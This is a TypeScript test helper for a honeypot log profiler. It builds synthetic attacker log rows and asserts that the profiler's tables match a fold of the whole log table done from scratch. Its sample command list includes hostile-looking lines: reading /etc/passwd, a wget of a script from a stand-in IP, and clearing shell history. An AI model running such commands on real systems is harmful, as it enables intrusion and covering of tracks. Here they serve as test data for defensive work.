/**
 * Log rows for profiler tests, written straight into `logs` (no parsing), and
 * the profiles a from-scratch fold of the whole table must give.
 */
import assert from 'node:assert/strict'

import type {Kysely} from 'kysely'

import {batchCommands} from '../../src/db/bulk/command-batches.js'
import type {Database, LogRow, NewLog} from '../../src/db/schema.js'
import {foldAttacker} from '../../src/workers/profiler/fold.js'
import {ProfilerSemantics} from '../../src/workers/profiler/semantics.js'

/** A row with its counters and ids as numbers (whatever the driver returned), keys sorted. */
export type NormalisedRow = Record<string, unknown>

/** The profiler's tables in a comparable form: attackers by IP, command rows (with their `ip`) by log id. */
export interface ProfileTables {
  attackers: NormalisedRow[]
  commands: NormalisedRow[]
}

/** How {@link makeLogs} draws its rows. */
export interface MakeLogsOptions {
  /** How many attacker IPs (default 50). */
  attackers?: number
  seed?: number
  /** The minute the first row is near (default 0). */
  startMinute?: number
}

const DECKIES = ['decky-01', 'decky-02', 'decky-03', 'decky-04', 'decky-05']
const SERVICES = ['ssh', 'telnet', 'http', 'ftp']
const COMMANDS = ['uname -a', 'cat /etc/passwd', 'wget http://198.51.100.9/x.sh', 'id', 'history -c']

/** A deterministic pseudo-random source. */
function random(seed: number): (n: number) => number {
  let state = seed >>> 0
  return (n: number): number => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return state % n
  }
}

/**
 * `count` log rows over `attackers` IPs (1 in 20 without an IP), with
 * connects, failed and successful logins and commands, several deckies, and
 * timestamps a little out of order.
 */
export function makeLogs(count: number, {attackers = 50, seed = 1, startMinute = 0}: MakeLogsOptions = {}): NewLog[] {
  const rand = random(seed)
  const rows: NewLog[] = []
  for (let i = 0; i < count; i++) {
    const minute = startMinute + i / 10 + rand(30) / 10 - 1.5
    const timestamp = new Date(Date.UTC(2026, 10, 26, 12, 0, 0) + Math.round(minute * 60_000)).toISOString()
    const ip = rand(20) === 0 ? null : `198.51.100.${rand(attackers) + 1}`
    const decky = DECKIES[rand(DECKIES.length)]
    const service = SERVICES[rand(SERVICES.length)]
    const kind = rand(10)
    let eventType = 'connect'
    let fields: Record<string, string | null> = {src_ip: ip}
    let msg: string | null = null
    if (kind < 3) {
      eventType = 'login_failed'
      fields = {...fields, password: 'hunter2', user: 'root'}
    } else if (kind === 3) {
      eventType = 'login_success'
    } else if (kind < 6) {
      eventType = 'command'
      const command = COMMANDS[rand(COMMANDS.length)]
      if (rand(2) === 0) fields = {...fields, command}
      else msg = `CMD uid=0 user=root src=${ip} pwd=/root cmd=${command}`
    }

    rows.push({
      attacker_ip: ip,
      decky,
      event_type: eventType,
      fields: JSON.stringify(fields),
      msg,
      raw_line: `<13>1 ${timestamp} ${decky} ${service} - ${eventType} - ${msg ?? ''}`,
      service,
      timestamp,
    })
  }

  return rows
}

/** Inserts rows into `logs` in chunks (one transaction per chunk). */
export async function insertLogs(db: Kysely<Database>, rows: readonly NewLog[], chunkSize = 2000): Promise<void> {
  for (let i = 0; i < rows.length; i += chunkSize) {
    await db.insertInto('logs').values(rows.slice(i, i + chunkSize)).execute()
  }
}

/** The attackers table and command rows, in a comparable order. */
export async function readProfiles(db: Kysely<Database>): Promise<ProfileTables> {
  const attackers = await db.selectFrom('attackers').selectAll().orderBy('ip').execute()
  const batches = await db.selectFrom('attacker_command_batches').selectAll().execute()
  const commands = batches.flatMap((batch) => batchCommands(batch).map((command) => normalise({...command, ip: batch.ip})))
  commands.sort(byLogId)
  return {attackers: attackers.map(normalise), commands}
}

/** What the profiler must have built from every row of `logs`: one fold of each attacker's whole history. */
export async function expectedProfiles(db: Kysely<Database>): Promise<ProfileTables> {
  const logs = await db.selectFrom('logs').selectAll().orderBy('id').execute()
  const byIp = new Map<string, LogRow[]>()
  for (const row of logs) {
    if (!row.attacker_ip) continue
    const rows = byIp.get(row.attacker_ip) ?? []
    rows.push(row)
    byIp.set(row.attacker_ip, rows)
  }

  const attackers: NormalisedRow[] = []
  const commands: NormalisedRow[] = []
  const semantics = new ProfilerSemantics()
  for (const [ip, rows] of byIp) {
    const folded = foldAttacker(undefined, ip, rows, semantics)
    attackers.push(normalise(folded.attacker))
    commands.push(...folded.commands.map((command) => normalise({...command, ip})))
  }

  attackers.sort((a, b) => (String(a.ip) < String(b.ip) ? -1 : 1))
  commands.sort(byLogId)
  return {attackers, commands}
}

function byLogId(a: NormalisedRow, b: NormalisedRow): number {
  return Number(a.log_id) - Number(b.log_id)
}

/** Numbers as numbers whatever the driver returned, keys sorted. */
function normalise(row: object): NormalisedRow {
  const out: NormalisedRow = {}
  for (const [key, value] of Object.entries(row).sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0))) {
    out[key] = typeof value === 'bigint' || (typeof value === 'string' && /_(count|attempts|id)$|^is_/.test(key) && /^\d+$/.test(value)) ? Number(value) : value
  }

  return out
}

/**
 * Asserts that the profiler's tables are exactly what folding every line of
 * `logs` from scratch gives: each attacker's event_count is the number of its
 * lines, no command row is there twice, every column matches.
 */
export async function assertProfilesExact(db: Kysely<Database>): Promise<void> {
  const built = await readProfiles(db)
  const counts = await db
    .selectFrom('logs')
    .select(['attacker_ip', (eb) => eb.fn.countAll().as('n')])
    .where('attacker_ip', 'is not', null)
    .groupBy('attacker_ip')
    .execute()
  for (const {attacker_ip: ip, n} of counts) {
    assert.equal(built.attackers.find((row) => row.ip === ip)?.event_count, Number(n), `event_count of ${ip}`)
  }

  assert.equal(built.attackers.length, counts.length, 'one attacker row per attacker IP')
  assert.equal(new Set(built.commands.map((row) => row.log_id)).size, built.commands.length, 'no duplicate command rows')
  assert.deepEqual(built, await expectedProfiles(db))
}
